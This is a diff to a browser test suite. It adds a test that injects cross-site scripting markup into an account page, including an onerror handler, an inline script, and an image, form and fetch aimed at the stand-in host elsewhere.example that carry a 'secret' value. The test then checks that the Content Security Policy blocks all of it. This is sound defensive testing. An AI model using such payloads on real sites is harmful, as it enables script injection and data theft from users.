@@ -9,6 +9,7 @@ from collections.abc import Iterator
 from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
+from urllib.parse import urlsplit
 from uuid import uuid4
 
 import httpx
@@ -380,6 +381,34 @@ def test_popup_of_the_visitor(browser: Browser, seeded: Seeded) -> None:
             "links => links.every(link => /^https:/.test(link.href))"
         )
         assert (visitor.outside, visitor.broken) == ([], [])
+
+
+def test_markup_that_got_in_all_the_same_runs_nothing_and_tells_nobody(
+    browser: Browser, seeded: Seeded
+) -> None:
+    with desk(browser, seeded.system) as somebody:
+        somebody.sign_in()
+        page = somebody.open("account")
+        stopped: list[str] = []
+        page.on("requestfailed", lambda one: stopped.append(one.url) if one.failure == "csp" else 0)
+        page.evaluate(
+            """() => {
+              const injected = document.createElement("div");
+              injected.innerHTML = '<img src="/x" onerror="window.pwned = 1">'
+                + '<img src="https://elsewhere.example/?said=secret">'
+                + '<form action="https://elsewhere.example/"><button id="b">x</button></form>';
+              const script = document.createElement("script");
+              script.textContent = "window.pwned = 2";
+              document.body.append(injected, script);
+              document.getElementById("b").click();
+              fetch("https://elsewhere.example/").catch(() => 0);
+            }"""
+        )
+        wait_for(lambda: page.wait_for_timeout(100) or len(somebody.broken) >= 5, 20)
+        assert page.evaluate("window.pwned") is None
+        assert all("Content Security Policy" in line for line in somebody.broken)
+        assert urlsplit(page.url).path == "/account"
+        assert sorted(somebody.outside) == sorted(stopped)
 
 
 def test_no_cell_of_the_export_is_a_formula(seeded: Seeded, tmp_path: Path) -> None:
